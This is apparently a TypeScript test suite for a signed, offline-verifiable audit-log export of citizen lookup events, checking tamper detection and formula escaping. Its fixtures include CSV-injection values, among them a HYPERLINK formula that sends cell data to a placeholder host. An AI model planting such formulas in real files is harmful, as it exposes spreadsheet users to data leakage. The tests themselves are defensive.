import request from 'supertest';
import { generateKeyPairSync } from 'node:crypto';
import { readFileSync, writeFileSync } from 'node:fs';
import { dirname, join } from 'node:path';
import { Writable } from 'node:stream';
import { DataSource } from 'typeorm';
import ExcelJS from 'exceljs';
import { ensureOpenpyxl, openpyxlSheets } from '../utils/python-readers';
import JSZip from 'jszip';
import { to as copyTo } from 'pg-copy-streams';
import {
  AuditStore,
  csvRecords,
  DigestSigner,
  EXPORT_COLUMNS,
  EXPORT_SAFE_SELECT_SQL,
  EXPORT_SELECT_SQL,
  exportCells,
  StoredEventRecord,
} from '@app/audit-trail';
import { Role } from '@app/auth';
import { SubjectPseudonymizer } from '@app/ingestion';
import { bearerFor } from '../utils/auth';
import { collectingStream } from '../utils/collecting-stream';
import { runCli } from '../utils/cli-process';
import { bootTestApp, TestApp } from '../utils/test-app';
import { aStoredEvent, someStoredEvents, tamper } from '../integrity/audit-store.fixture';
import { EvidenceExportService, TRACE_ORDER_BY } from '@app/trace';
import { ExportFileWriter } from '../../libs/trace/src/export/export-file.writer';
import { AUDITOR, exportToFiles, ExportFiles, verifyOffline } from './export.fixture';

const CITIZEN = '052190012345';

interface PgClient {
  query(q: { text: string; rowMode: 'array' }): Promise<{ rows: (string | null)[][] }>;
  query<T extends { submit: unknown }>(stream: T): T;
}

const CASE = { caseReference: 'QĐ-17/TTr-2026', purpose: 'Thanh tra việc tra cứu công dân' };

/**
 * Evidence exports (docs/trace.md): a file and a manifest that anyone with the public key checks offline, and that
 * stop checking out after any change — of the file, of the manifest, or of the stored events behind them.
 */
// Each check runs the command line in its own process (compiled from source): minutes on a busy machine.
jest.setTimeout(240_000);

describe('trace evidence export', () => {
  const signingKey = generateKeyPairSync('ed25519');
  const publicPem = signingKey.publicKey.export({ type: 'spki', format: 'pem' }).toString();
  /** verify-export as an auditor runs it with the service's published key beside the files. */
  const verifyTrusted = (manifest: string, file: string) => {
    const keyFile = join(dirname(manifest), 'published-key.pem');
    writeFileSync(keyFile, publicPem);
    return verifyOffline(manifest, file, ['--public-key', keyFile]);
  };
  const signingPem = signingKey.privateKey.export({ type: 'pkcs8', format: 'pem' }).toString();
  let sut: TestApp;
  let citizenHash: string;
  const citizenEvents: StoredEventRecord[] = [];
  let csv: ExportFiles;

  const forCitizen = (overrides: Partial<StoredEventRecord> = {}) => {
    const e = aStoredEvent({ subjectHash: citizenHash, ...overrides });
    citizenEvents.push(e);
    return e;
  };

  beforeAll(async () => {
    sut = await bootTestApp({ INTEGRITY_SIGNING_KEY: signingPem });
    citizenHash = sut.app.get(SubjectPseudonymizer).hashHex(CITIZEN);
    const store = sut.app.get(AuditStore);
    // Batch 1 (signed), batch 2 with cells a spreadsheet would run, batch 3 without the citizen, batch 4 unsigned.
    await store.appendBatch([...someStoredEvents(35), ...Array.from({ length: 5 }, () => forCitizen())], { source: 'http' });
    await sut.app.get(DigestSigner).signHead();
    await store.appendBatch(
      [
        ...someStoredEvents(27),
        forCitizen({ userAgent: '=HYPERLINK("http://x.example/?"&A1,"bấm")', dossierCode: '+84-123', unitCode: '' }),
        forCitizen({ accountId: '@admin', procedureCode: '-1', extra: { note: "'quoted", n: 1 } }),
        forCitizen({ userAgent: '\tcmd', dossierCode: null, fields: [], procedureCode: '\r=1+1', accountId: "'cb.quoted", unitCode: 'Đơn-vị' }),
      ],
      { source: 'http' },
    );
    await store.appendBatch(someStoredEvents(20), { source: 'http' });
    await store.appendBatch([...someStoredEvents(8), forCitizen(), forCitizen()], { source: 'http' });
    csv = await exportToFiles(sut.app, { case: CASE, subjectIds: [CITIZEN], criteria: {}, format: 'csv' });
  });
  afterAll(() => sut.close());

  it("exports exactly the citizen's events, newest first, with the keyed hash and never the ID", () => {
    const [header, ...rows] = [...csvRecords(readFileSync(csv.file, 'utf8'))];
    expect(header).toEqual([...EXPORT_COLUMNS]);
    const at = (c: string) => header.indexOf(c);
    expect(rows.map((r) => r[at('event_id')]).sort()).toEqual(citizenEvents.map((e) => e.eventId).sort());
    const times = rows.map((r) => r[at('occurred_at')]!);
    expect([...times].sort().reverse()).toEqual(times);
    expect(new Set(rows.map((r) => r[at('subject_hash')]))).toEqual(new Set([citizenHash]));
    expect(readFileSync(csv.file, 'utf8')).not.toContain(CITIZEN);
    expect(csv.outcome.manifest.file.rows).toBe(citizenEvents.length);
  });

  it('verifies offline with the public key alone (no database, no secret), across signed and newly signed heads', async () => {
    const keyFile = join(csv.dir, 'public-key.pem');
    writeFileSync(keyFile, publicPem);
    const result = await verifyOffline(csv.manifest, csv.file, ['--public-key', keyFile]);

    expect(result.stderr).toBe('');
    expect(result.code).toBe(0);
    expect(result.stdout).toMatch(/^OK: the export verifies/);
    expect(result.stdout).toContain(`rows         ${citizenEvents.length} checked, from 3 batches`);
    expect(csv.outcome.manifest.chain.segments).toHaveLength(2); // batch 1 → its head; batches 2–4 → a head signed for the export
  });

  it('refuses a public key other than the one that signed', async () => {
    const otherFile = join(csv.dir, 'other-key.pem');
    writeFileSync(otherFile, generateKeyPairSync('ed25519').publicKey.export({ type: 'spki', format: 'pem' }).toString());
    const result = await verifyOffline(csv.manifest, csv.file, ['--public-key', otherFile]);
    expect(result.code).toBe(2);
    expect(result.stdout).toContain('signature: signed by key');
  });

  it('fails after one byte of the file changes', async () => {
    const bytes = readFileSync(csv.file);
    const at = bytes.indexOf(Buffer.from(citizenEvents[3].eventId)) + 7;
    bytes[at] = bytes[at] === 0x61 ? 0x62 : 0x61;
    const changed = join(csv.dir, 'changed.csv');
    writeFileSync(changed, bytes);

    const result = await verifyOffline(csv.manifest, changed);
    expect(result.code).toBe(2);
    expect(result.stdout).toMatch(/^FAILED/);
    expect(result.stdout).toContain('file-hash:');
    expect(result.stdout).toMatch(/row: batch \d+: the file's rows of this batch are not the events stored in it/);
  });

  it('fails after one byte of the manifest changes (its case reference, or a digest)', async () => {
    const text = readFileSync(csv.manifest, 'utf8');
    const caseChanged = join(csv.dir, 'case.manifest.json');
    writeFileSync(caseChanged, text.replace('QĐ-17', 'QĐ-18'));
    const r1 = await verifyOffline(caseChanged, csv.file);
    expect(r1.code).toBe(2);
    expect(r1.stdout).toContain('signature: the manifest signature does not verify');

    const head = csv.outcome.manifest.chain.segments[0].head.digest;
    const digestChanged = join(csv.dir, 'digest.manifest.json');
    writeFileSync(digestChanged, text.replace(head, `${head.slice(0, -1)}${head.endsWith('0') ? '1' : '0'}`));
    const r2 = await verifyOffline(digestChanged, csv.file);
    expect(r2.code).toBe(2);
    expect(r2.stdout).toContain('chain: the batch digests do not chain to the signed head');
  });

  it('escapes every cell a spreadsheet would run as a formula, and the verifier reads them back', () => {
    const text = readFileSync(csv.file, 'utf8');
    expect(text).toContain(`"'=HYPERLINK(""http://x.example/?""&A1,""bấm"")"`);
    expect(text).toContain(",'+84-123,");
    expect(text).toContain(",'@admin,");
    expect(text).toContain(",'-1,");
    expect(text).toContain(",'\tcmd,");
    expect(text).toContain(`,"'\r=1+1",`);
    // An apostrophe first gets one more, so that removing one always gives the value back; other letters stay as they are.
    expect(text).toContain(",''cb.quoted,Đơn-vị,");
    const [header, ...rows] = [...csvRecords(text)];
    for (const row of rows) {
      for (const [i, cell] of row.entries()) {
        if (cell !== null && header[i] !== 'extra') expect(cell).not.toMatch(/^[=+\-@\t\r]/);
      }
    }
  });

  it('writes XLSX with the same rows, which verifies too', async () => {
    const xlsx = await exportToFiles(sut.app, { case: CASE, subjectIds: [CITIZEN], criteria: {}, format: 'xlsx' });
    const workbook = new ExcelJS.Workbook();
    await workbook.xlsx.readFile(xlsx.file);
    const sheetRows: unknown[][] = [];
    workbook.worksheets[0].eachRow((row) => sheetRows.push((row.values as unknown[]).slice(1)));
    const csvRows = [...csvRecords(readFileSync(csv.file, 'utf8'))];
    expect(sheetRows).toHaveLength(csvRows.length);
    // The workbook reader gives an empty text as no value (the verifier's streaming reader tells them apart).
    const norm = (r: unknown[]) => EXPORT_COLUMNS.map((_, i) => (r[i] === undefined || r[i] === null || r[i] === '' ? null : String(r[i])));
    expect(sheetRows.map(norm)).toEqual(csvRows.map(norm));
    // A reader of another language and project reads the same workbook the same way.
    ensureOpenpyxl();
    const sheets = openpyxlSheets(xlsx.file);
    expect(Object.keys(sheets)).toEqual(['rows-1']);
    expect(sheets['rows-1'].map(norm)).toEqual(csvRows.map(norm));

    const result = await verifyTrusted(xlsx.manifest, xlsx.file);
    expect(result.code).toBe(0);
    expect(result.stdout).toMatch(/^OK: the export verifies/);
    // Without the published key it is consistent, but nothing shows who signed it: not OK, exit 3.
    const unchecked = await verifyOffline(xlsx.manifest, xlsx.file);
    expect(unchecked.code).toBe(3);
    expect(unchecked.stdout).toMatch(/^ORIGIN NOT CHECKED: .*--public-key/);
    expect(unchecked.stdout).toContain('carried by the manifest: compare with the published key id');
  });

  it('records every export in the security log: case, criteria with the citizen hashed, rows, file hash', async () => {
    const res = await request(sut.app.getHttpServer())
      .get('/v1/security-log?type=trace.exported')
      .set('Authorization', await bearerFor(sut.app, Role.ADMIN))
      .expect(200);
    const entry = res.body.items.find((e: { details: { exportId: string } }) => e.details.exportId === csv.outcome.id);
    expect(entry).toEqual(
      expect.objectContaining({
        actorName: 'thanhtra.nguyen',
        target: CASE.caseReference,
        details: expect.objectContaining({ caseReference: CASE.caseReference, rows: citizenEvents.length, subjects: [citizenHash], fileSha256: csv.outcome.file.sha256 }),
      }),
    );
    expect(JSON.stringify(res.body)).not.toContain(CITIZEN);
  });

  it('passes the search to COPY unchanged: values with quotes, backslashes, commas and braces, several at once, and times', async () => {
    const odd = ['Q"1\\2,3{x}', "it's \\N", 'NULL'];
    const stored = odd.map((dossierCode, i) => aStoredEvent({ dossierCode, occurredAt: new Date(Date.UTC(2026, 5, 1 + i)) }));
    await sut.app.get(AuditStore).appendBatch([...stored, aStoredEvent({ dossierCode: 'Q"1' })], { source: 'http' });
    const all = await exportToFiles(sut.app, { case: CASE, criteria: { dossierCodes: [...odd, 'absent'] }, format: 'csv' });
    const [header, ...rows] = [...csvRecords(readFileSync(all.file, 'utf8'))];
    expect(rows.map((r) => r[header.indexOf('dossier_code')]).sort()).toEqual([...odd].sort());
    const one = await exportToFiles(sut.app, {
      case: CASE,
      criteria: { dossierCodes: odd, from: new Date(Date.UTC(2026, 5, 2)), to: new Date(Date.UTC(2026, 5, 3)) },
      format: 'csv',
    });
    expect([...csvRecords(readFileSync(one.file, 'utf8'))].slice(1).map((r) => r[header.indexOf('event_id')])).toEqual([stored[1].eventId]);
    expect((await verifyTrusted(all.manifest, all.file)).code).toBe(0);
  });

  it('writes the same sheet from the binary COPY as from rows one by one, and readers get the stored text back', async () => {
    const stored = [
      aStoredEvent({ dossierCode: 'XL-1', userAgent: 'a & b <c> "d"\r\nnext line', unitCode: '', procedureCode: ' padded ' }),
      aStoredEvent({ dossierCode: 'XL-1', userAgent: '=SUM(A1)', accountId: 'cán.bộ.Nguyễn', extra: { big: 'x'.repeat(200_000), quote: "'q" } }),
      aStoredEvent({ dossierCode: 'XL-1', userAgent: null, subjectHash: null, subjectKeyId: null, subjectCount: null, extra: null }),
      aStoredEvent({ dossierCode: 'XL-1', userAgent: 'bell\u0007 and \uFFFE kept, _x0041_ as typed' }),
    ];
    await sut.app.get(AuditStore).appendBatch(stored, { source: 'http' });
    const runner = sut.app.get(DataSource).createQueryRunner();
    await runner.connect();
    const sheets: string[] = [];
    try {
      const client = (runner as unknown as { databaseConnection: PgClient }).databaseConnection;
      const select = `FROM query_event e WHERE e.dossier_code = 'XL-1' ${TRACE_ORDER_BY}`;
      const fromCopy = collectingStream();
      const copyWriter = ExportFileWriter.for('xlsx', fromCopy, EXPORT_COLUMNS);
      for await (const chunk of client.query(copyTo(`COPY (SELECT ${EXPORT_SAFE_SELECT_SQL} ${select}) TO STDOUT (FORMAT binary)`)) as AsyncIterable<Buffer>) {
        await copyWriter.copied(chunk);
      }
      copyWriter.copyEnded(stored.length);
      await copyWriter.finish();
      const fromRows = collectingStream();
      const rowWriter = ExportFileWriter.for('xlsx', fromRows, EXPORT_COLUMNS);
      for (const row of (await client.query({ text: `SELECT ${EXPORT_SELECT_SQL} ${select}`, rowMode: 'array' })).rows) await rowWriter.row(exportCells(row));
      await rowWriter.finish();
      for (const out of [fromCopy, fromRows]) sheets.push(await (await JSZip.loadAsync(out.bytes())).file('xl/worksheets/sheet1.xml')!.async('string'));
    } finally {
      await runner.release();
    }
    expect(sheets[0]).toBe(sheets[1]);
    expect(sheets[0]).toContain('a &amp; b &lt;c&gt; "d"&#13;&#10;next line');
    expect(sheets[0]).toContain('<t xml:space="preserve"> padded </t>');
    expect(sheets[0]).toContain('<t>bell_x0007_ and _xFFFE_ kept, _x005F_x0041_ as typed</t>');

    // Through the service: the XLSX (binary COPY) and the CSV (CSV COPY) hold the same values, as two readers see them.
    const xlsx = await exportToFiles(sut.app, { case: CASE, criteria: { dossierCodes: ['XL-1'] }, format: 'xlsx' });
    const csvFile = await exportToFiles(sut.app, { case: CASE, criteria: { dossierCodes: ['XL-1'] }, format: 'csv' });
    const csvRows = [...csvRecords(readFileSync(csvFile.file, 'utf8'))];
    const agent = EXPORT_COLUMNS.indexOf('user_agent');
    // What XML 1.0 cannot hold (a C0 control, U+FFFE) is in the sheet as SpreadsheetML's _xHHHH_, a stored "_x0041_"
    // with its underscore escaped; openpyxl decodes those only in shared strings and shows inline text as written.
    const asWritten = (v: string) => v.replace('_x0041_', '_x005F_x0041_').replace('\u0007', '_x0007_').replace('\uFFFE', '_xFFFE_');
    const expected = csvRows.map((r) => r.map((v, i) => (i === agent && v ? asWritten(v) : v)));
    ensureOpenpyxl();
    const norm = (r: unknown[]) => EXPORT_COLUMNS.map((_, i) => (r[i] === undefined || r[i] === null || r[i] === '' ? null : String(r[i])));
    expect(openpyxlSheets(xlsx.file)['rows-1'].map(norm)).toEqual(expected.map(norm));
    expect(expected.map((r) => r[agent])).toContain('a & b <c> "d"\r\nnext line');
    // Both verify: the verifier decodes the escapes and reads back the stored text, control characters included.
    expect((await verifyTrusted(csvFile.manifest, csvFile.file)).code).toBe(0);
    const xlsxVerified = await verifyTrusted(xlsx.manifest, xlsx.file);
    expect(xlsxVerified.stdout).toMatch(/^OK: the export verifies/);
    expect(xlsxVerified.code).toBe(0);
  });

  it('stops when the receiver goes away mid-file (CSV from COPY, XLSX from binary COPY), records the export as failed, and the store answers the next one', async () => {
    await sut.app.get(AuditStore).appendBatch(Array.from({ length: 3000 }, () => aStoredEvent({ dossierCode: 'GONE-1' })), { source: 'http' });
    const exports = sut.app.get(EvidenceExportService);
    const db = sut.app.get(DataSource);
    for (const format of ['csv', 'xlsx'] as const) {
      let taken = 0;
      // A client that reads the first 20 KB and hangs up.
      const out = new Writable({
        write(chunk: Buffer, _e, done) {
          taken += chunk.length;
          if (taken > 20_000) return done(new Error('client hung up'));
          done();
        },
      });
      const started = exports.start({ case: CASE, criteria: { dossierCodes: ['GONE-1'] }, format }, AUDITOR);
      await expect(started.write(out)).rejects.toThrow(/client hung up|closed the connection/);
      const [entry] = await db.query(`SELECT details FROM security_event WHERE type = 'trace.exported' AND details->>'exportId' = $1`, [started.id]);
      expect(entry.details).toMatchObject({ failed: true, format });
      expect(entry.details.rows).toBeGreaterThan(0);
      expect(entry.details.rows).toBeLessThanOrEqual(3000);
      // No connection is left inside the export's transaction or its COPY.
      const stuck = async () =>
        (await db.query(`SELECT count(*)::int AS n FROM pg_stat_activity WHERE datname = current_database() AND (state = 'idle in transaction' OR query LIKE 'COPY (SELECT%')`))[0].n;
      for (let i = 0; i < 50 && (await stuck()) > 0; i++) await new Promise((r) => setTimeout(r, 100));
      expect(await stuck()).toBe(0);
    }
    const after = await exportToFiles(sut.app, { case: CASE, criteria: { dossierCodes: ['GONE-1'] }, format: 'csv' });
    expect(after.outcome.manifest.file.rows).toBe(3000);
    expect([...csvRecords(readFileSync(after.file, 'utf8'))]).toHaveLength(3001);
  });

  it('writes the export and its manifest beside it from the command line (trace --out), which verify offline', async () => {
    const out = join(csv.dir, 'cli-export.csv');
    // The service's own data folder: the same generated keys (subject hash) as the app that stored the events.
    const env = { NODE_ENV: 'test', DATABASE_URL: sut.db.url, DATA_DIR: dirname(sut.config.integrity.secretsDir), INTEGRITY_SIGNING_KEY: signingPem };
    const cli = await runCli(['trace', '--subject', CITIZEN, '--case', CASE.caseReference, '--purpose', CASE.purpose, '--out', out], env);
    expect(cli.stderr).toBe('');
    expect(cli.code).toBe(0);
    expect(cli.stdout).toContain(`exported ${citizenEvents.length} event(s) to ${out}`);
    expect(cli.stdout).not.toContain(CITIZEN);
    expect((await verifyTrusted(`${out}.manifest.json`, out)).code).toBe(0);
  });

  it('proves rows across more links than a page (the chain read in chain order, not as text)', async () => {
    const store = sut.app.get(AuditStore);
    const many = [];
    for (let i = 0; i < 60; i++) many.push((await store.appendBatch([aStoredEvent({ dossierCode: 'PAGED-1' })], { source: 'http' })).batchId);
    const paged = await exportToFiles(sut.app, { case: CASE, criteria: { dossierCodes: ['PAGED-1'] }, format: 'csv' });
    const links = paged.outcome.manifest.chain.segments.flatMap((g) => g.links.map((l) => Number(l.chainSeq)));
    expect(links).toEqual([...links].sort((a, b) => a - b));
    expect(paged.outcome.manifest.chain.segments.flatMap((g) => g.links.map((l) => l.batchId))).toEqual(expect.arrayContaining(many));
    expect((await verifyTrusted(paged.manifest, paged.file)).code).toBe(0);
  });

  it('after a stored row is altered: a new export fails to verify, and verify of the store names the row', async () => {
    const altered = citizenEvents[0];
    await tamper(sut.db.url, `UPDATE query_event SET client_ip = '10.99.99.99' WHERE event_id = $1`, [altered.eventId]);

    const again = await exportToFiles(sut.app, { case: CASE, subjectIds: [CITIZEN], criteria: {}, format: 'csv' });
    const result = await verifyOffline(again.manifest, again.file);
    expect(result.code).toBe(2);
    expect(result.stdout).toMatch(/row: batch \d+: the file's rows of this batch are not the events stored in it/);

    // The export made before still verifies: it proves the rows as they were stored and signed. The store no longer
    // holds them: the chain's own verify says which event changed.
    expect((await verifyTrusted(csv.manifest, csv.file)).code).toBe(0);
    const verify = await request(sut.app.getHttpServer())
      .get('/v1/integrity/verify')
      .set('Authorization', await bearerFor(sut.app, Role.AUDITOR))
      .expect(200);
    expect(verify.body.ok).toBe(false);
    expect(verify.body.firstBrokenBatch.changed).toEqual([altered.eventId]);
  });
});
